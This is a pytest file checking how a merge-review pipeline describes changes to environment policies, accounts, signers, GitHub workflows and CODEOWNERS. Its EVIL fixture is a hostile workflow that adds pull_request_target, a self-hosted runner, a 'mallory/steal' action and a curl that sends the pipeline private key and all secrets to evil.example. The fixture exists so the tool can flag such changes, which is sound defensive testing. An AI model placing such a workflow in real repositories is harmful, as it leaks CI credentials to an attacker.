"""The effects of a change to policy, accounts, workflows and owners, in words."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.forges.github.file_changes import read_workflow
from pipeline.models.outputs import AskedItem
from pipeline.requests.asked import BeforeMerge, asked_of
from pipeline.requests.layout import (
    BLOCKED_PATH,
    PLATFORM_PATH,
    SIGNERS_PATH,
    draft_path,
    environment_path,
    tenant_path,
)
from tests.support.samples import DRAFT, sample_files, snapshot_and_findings, world_files

TOP = Path(__file__).resolve().parents[3]
FILES = {**sample_files(), **world_files()}
BOT = b'{id: 1901, login: "acme-agent[bot]", kind: bot, tenants: [acme]}'
ENGINEER = b"{id: 1201, login: acme-engineer-1, kind: person, teams: [acme-engineers]}"
DIGEST = "sha256:" + "7" * 64


def changed(path: str, *changes: tuple[bytes, bytes]) -> AskedItem:
    """What a change of one sample file asks for; a change of nothing fails the test."""
    content = FILES[path]
    for old, new in changes:
        assert content.count(old) == 1, old
        content = content.replace(old, new)
    return asked(path, FILES[path], content)


def asked(path: str, old: bytes | None, new: bytes | None) -> AskedItem:
    """What a file that was `old` and is `new` asks for; None where there is none."""
    states = []
    for content in (old, new):
        files = {p: c for p, c in FILES.items() if p != path}
        states.append(files if content is None else {**files, path: content})
    before, after = (
        snapshot_and_findings(
            {p: c for p, c in files.items() if p.startswith(("tenants/", "environments/"))}
        )[0]
        for files in states
    )
    texts = [{path: c} if c is not None else {} for c in (old, new)]
    [item] = asked_of([path], after, BeforeMerge(before, *texts))
    return item


@pytest.mark.parametrize(
    ("path", "old", "new", "line"),
    [
        (
            environment_path("prod"),
            b"LOW: {count: 2, teams: [release-managers, security]}",
            b"LOW: {count: 1, teams: [release-managers]}",
            ("approvals for HIGH", "from 2 of release-managers, security to 1 of release-managers"),
        ),
        (
            environment_path("staging"),
            b"  HIGH: {count: 2, teams: [release-managers, security]}\n",
            b"",
            ("approvals for HIGH", "from 2 of release-managers, security to 1 of release-managers"),
        ),
        (
            environment_path("staging"),
            b"  MEDIUM: {count: 1, teams: [release-managers]}\n",
            b"",
            ("own entry for MEDIUM", "taken away"),
        ),
        (
            environment_path("prod"),
            b"required_checks: [lint, tests, secrets]",
            b"required_checks: [lint]",
            ("fewer required checks", "tests, secrets"),
        ),
        (
            environment_path("prod"),
            b"requires_default_branch: true\n",
            b"provenance: unchecked\nrequires_default_branch: true\n",
            ("provenance", "from required to unchecked"),
        ),
        (
            environment_path("dev"),
            b"LOG_LEVEL: debug",
            b"LOG_LEVEL: info",
            ("setting", "LOG_LEVEL: from debug to info"),
        ),
        (
            PLATFORM_PATH,
            BOT,
            BOT.replace(b"[acme]", b"[acme, contoso]"),
            ("bot may ask for a tenant", "acme-agent[bot] (1901): contoso"),
        ),
        (
            PLATFORM_PATH,
            ENGINEER,
            ENGINEER.replace(b"[acme-engineers]", b"[acme-engineers, platform-engineers]"),
            ("joins a team", "acme-engineer-1 (1201): platform-engineers"),
        ),
        (
            PLATFORM_PATH,
            ENGINEER,
            ENGINEER + b"\n  - {id: 9, login: mallory, kind: person, teams: [security]}",
            ("new account", "mallory (9), a person, in security"),
        ),
        (
            PLATFORM_PATH,
            b"  - " + BOT + b"\n",
            b"",
            ("account no longer known", "acme-agent[bot] (1901), a bot, may ask for acme"),
        ),
        (
            PLATFORM_PATH,
            BOT,
            BOT.replace(b"kind: bot, tenants: [acme]", b"kind: person"),
            ("account becomes another kind", "acme-agent[bot] (1901): from bot to person"),
        ),
        (
            PLATFORM_PATH,
            ENGINEER,
            ENGINEER.replace(b"acme-engineer-1", b"mallory"),
            ("account renamed", "acme-engineer-1 (1201) is now mallory"),
        ),
        (
            PLATFORM_PATH,
            b"owners: [platform-engineers]",
            b"owners: [acme-engineers]",
            ("owners", "from platform-engineers to acme-engineers"),
        ),
        (
            tenant_path("acme"),
            b"risk_tier: MEDIUM",
            b"risk_tier: LOW",
            ("risk tier", "from MEDIUM to LOW"),
        ),
        (
            tenant_path("contoso"),
            b"custom_code: true",
            b"custom_code: false",
            ("custom code", "from yes to no"),
        ),
        (
            BLOCKED_PATH,
            b"digests: []",
            f"digests:\n  - {{digest: {DIGEST}, reason: Leaks}}".encode(),
            ("may run nowhere from now on", f"{DIGEST}: Leaks"),
        ),
        (
            SIGNERS_PATH,
            b"repository: ameide/control",
            b"repository: mallory/control",
            (
                "believes another one of images",
                "build-workflow: the workflow https://github.com/ameide/control/.github/workflows/"
                "build.yaml@refs/heads/main, vouched for by "
                "https://token.actions.githubusercontent.com, now the workflow "
                "https://github.com/mallory/control/.github/workflows/build.yaml@refs/heads/main, "
                "vouched for by https://token.actions.githubusercontent.com",
            ),
        ),
        (
            draft_path(DRAFT),
            b"code_origin: tenant",
            b"code_origin: agent",
            ("code origin", "from tenant to agent"),
        ),
    ],
)
def test_a_change_of_policy_is_described_by_its_effect(
    path: str, old: bytes, new: bytes, line: tuple[str, str]
) -> None:
    assert line in changed(path, (old, new)).details


def test_new_and_deleted_policy_is_described() -> None:
    path = environment_path("prod")
    new = asked(path, None, FILES[path])
    assert new.asks == "add policy"
    assert ("approvals for LOW", "2 of release-managers, security") in new.details
    gone = asked(path, FILES[path], None)
    assert gone.asks == "take policy away"
    assert ("approvals for HIGH", "was 2 of release-managers, security") in gone.details
    assert asked(draft_path(DRAFT), FILES[draft_path(DRAFT)], None).asks == (
        "no longer ask for a primitive"
    )


def test_a_change_without_an_effect_says_so() -> None:
    item = changed(tenant_path("acme"), (b"kind: Tenant\n", b"kind: Tenant\n# Seen.\n"))
    assert item.details == (("effect", "none: only what people read is different"),)


WORKFLOW = b"""on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1
      - run: make test
"""
EVIL = b"""on:
  push:
    branches: [main]
  pull_request_target: {}
jobs:
  test:
    runs-on: self-hosted
    environment: pipeline
    steps:
      - uses: mallory/steal@main
      - run: curl -d "${{ secrets.PIPELINE_APP_PRIVATE_KEY }}${{ toJSON(secrets) }}" evil.example
"""


def test_a_new_workflow_is_described_by_its_permissions() -> None:
    item = asked(".github/workflows/new.yaml", None, WORKFLOW)
    assert item.asks == "add a workflow that GitHub runs"
    assert dict(item.details) == {
        "runs on events": "push (branches main)",
        "permissions": "of all jobs: contents read",
        "machines": "ubuntu-24.04",
        "actions": "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1",
        "jobs": "test",
        "commands": "1 new, 0 gone",
    }


def test_a_changed_workflow_is_described_by_its_new_permissions() -> None:
    item = asked(".github/workflows/ci.yml", WORKFLOW, EVIL)
    details = dict(item.details)
    assert item.asks == "change a workflow that GitHub runs"
    assert details["more runs on events"] == "pull_request_target"
    assert details["more permissions"] == "of all jobs: what the repository gives by default"
    assert details["more secrets"] == "PIPELINE_APP_PRIVATE_KEY; all of them"
    assert details["more environments"] == "pipeline"
    assert details["more machines"] == "self-hosted"
    assert details["more actions"] == "mallory/steal@main"
    assert details["commands"] == "1 new, 1 gone"
    assert asked(".github/workflows/ci.yml", WORKFLOW, None).asks.startswith("take away a workflow")


def test_an_unreadable_workflow_still_names_its_secrets() -> None:
    item = asked(".github/workflows/x.yaml", None, b"on: &a push\nx: ${{ secrets['TOKEN'] }}\n")
    assert dict(item.details) == {
        "could not be read now": "`&a` names this value for use elsewhere",
        "secrets": "TOKEN",
    }


@pytest.mark.parametrize("path", sorted((TOP / ".github/workflows").glob("*.y*ml")), ids=str)
def test_the_workflows_of_this_repository_can_be_read(path: Path) -> None:
    found = read_workflow(str(path), path.read_bytes())
    assert not found.problem and found.runs_on_events and found.jobs and found.permissions


def test_a_change_of_owners_is_described_line_by_line() -> None:
    old = b"# Policy\n* @o/platform\n/tenants/acme/ @o/acme @o/platform\n/docs/ @o/docs\n"
    new = b"/tenants/acme/ @mallory\n* @o/platform\n/environments/\n"
    item = asked(".github/CODEOWNERS", old, new)
    assert item.asks == "change who owns which files"
    assert item.details == (
        ("owners of a path", "/tenants/acme/: from @o/acme @o/platform to @mallory"),
        ("path without its own owners", "/docs/, @o/docs before"),
        ("owners of a path", "/environments/: nobody"),
        ("order", "changed: the last line that fits a path decides"),
    )


@pytest.mark.parametrize(
    ("path", "old", "new", "asks"),
    [
        ("docs/how-to.md", None, b"x", "add a file that is not a request"),
        ("docs/how-to.md", b"x", b"y", "change a file that is not a request"),
        ("docs/how-to.md", b"x", None, "take away a file that is not a request"),
        ("action.yml", b"x", b"y", "change an action that workflows run"),
        ("CODEOWNERS", None, b"* @o/x", "add who owns which files"),
        ("tenants/acme/notes.txt", None, b"x", "add a file that holds no valid request"),
    ],
)
def test_what_merging_asks_for_depends_on_whether_a_file_is_new_changed_or_deleted(
    path: str, old: bytes | None, new: bytes | None, asks: str
) -> None:
    assert asked(path, old, new).asks == asks


def test_policy_and_workflows_come_before_drafts() -> None:
    snapshot = snapshot_and_findings(FILES)[0]
    paths = [draft_path(DRAFT), "zzz.md", ".github/workflows/x.yaml", PLATFORM_PATH]
    told = [item.path for item in asked_of(paths, snapshot, BeforeMerge(snapshot))]
    assert told[-1] == draft_path(DRAFT)
